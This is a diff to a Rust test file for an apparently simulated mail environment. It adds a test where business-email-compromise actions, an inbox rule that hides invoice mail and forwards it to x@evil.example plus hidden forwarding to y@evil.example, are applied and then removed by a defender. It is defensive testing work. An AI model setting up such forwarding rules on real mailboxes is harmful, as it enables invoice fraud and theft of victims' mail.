@@ -100,7 +100,7 @@ async fn timeline_is_played_with_side_effects_and_scenario_start_times() {
     let ato_at = s.scenario_started_at["ato-1"];
     let ms = |t: chrono::DateTime<chrono::Utc>| (t - t0).num_milliseconds();
     assert!(
-        (90..400).contains(&ms(phish_at)),
+        (90..1500).contains(&ms(phish_at)),
         "offset 200 ms at 2x ≈ 100 ms, got {}",
         ms(phish_at)
     );
@@ -235,5 +235,95 @@ async fn seed_history_is_rebased_onto_the_wall_clock() {
         .unwrap();
     assert!((chrono::Utc::now() - r.with_timezone(&chrono::Utc)).num_hours() < 2);
     assert!(s <= r);
+    sim.shutdown().await;
+}
+
+#[tokio::test]
+async fn attacker_rules_and_forwarding_act_on_new_mail_until_removed() {
+    let sim = Simulator::start(common::fast(), testkit::SeedBuilder::new(2, 0).build())
+        .await
+        .unwrap();
+    let u = upn(1);
+    sim.apply(&TimedAction::CreateInboxRule { user_id: user_id(1), rule: json!({"displayName": "..", "sequence": 1, "isEnabled": true, "conditions": {"bodyOrSubjectContains": ["invoice"]}, "actions": {"moveToFolder": "Archive", "markAsRead": true, "forwardTo": [{"emailAddress": {"address": "x@evil.example"}}], "stopProcessingRules": true}}) }, Some("bec"));
+    sim.apply(
+        &TimedAction::SetHiddenForwarding {
+            user_id: user_id(1),
+            address: "y@evil.example".into(),
+        },
+        Some("bec"),
+    );
+    let now = chrono::Utc::now();
+    sim.inject_message(
+        &[&u],
+        "inbox",
+        &testkit::mime(
+            "v@vendor.example",
+            &u,
+            "Invoice 42",
+            "pay",
+            "<inv-42@vendor.example>",
+            now,
+            false,
+        ),
+    );
+    sim.inject_message(
+        &[&u],
+        "inbox",
+        &testkit::mime(
+            "v@vendor.example",
+            &u,
+            "Lunch",
+            "food",
+            "<lunch-1@vendor.example>",
+            now,
+            false,
+        ),
+    );
+    let msgs = sim.messages(&u);
+    let inv = msgs
+        .iter()
+        .find(|m| m.internet_message_id == "<inv-42@vendor.example>")
+        .unwrap();
+    assert_eq!(inv.folder, "archive");
+    assert!(inv.is_read);
+    assert_eq!(
+        sim.message_folder(&u, "<lunch-1@vendor.example>")
+            .as_deref(),
+        Some("inbox")
+    );
+    let f = sim.forwards();
+    assert!(f.iter().any(|r| r.via == "rule:.."
+        && r.to == vec!["x@evil.example".to_string()]
+        && r.internet_message_id == "<inv-42@vendor.example>"));
+    assert_eq!(f.iter().filter(|r| r.via == "mailbox").count(), 2);
+    // Ward removes the rule: the next invoice stays in the inbox.
+    let g = common::G::new(&sim).await;
+    let rid = sim.inbox_rules(&u)[0]["id"].as_str().unwrap().to_string();
+    let (st, _) = g
+        .req(
+            reqwest::Method::DELETE,
+            &format!("/users/{u}/mailFolders/inbox/messageRules/{rid}"),
+            None,
+            &[],
+        )
+        .await;
+    assert_eq!(st, 204);
+    sim.inject_message(
+        &[&u],
+        "inbox",
+        &testkit::mime(
+            "v@vendor.example",
+            &u,
+            "Invoice 43",
+            "pay",
+            "<inv-43@vendor.example>",
+            now,
+            false,
+        ),
+    );
+    assert_eq!(
+        sim.message_folder(&u, "<inv-43@vendor.example>").as_deref(),
+        Some("inbox")
+    );
     sim.shutdown().await;
 }
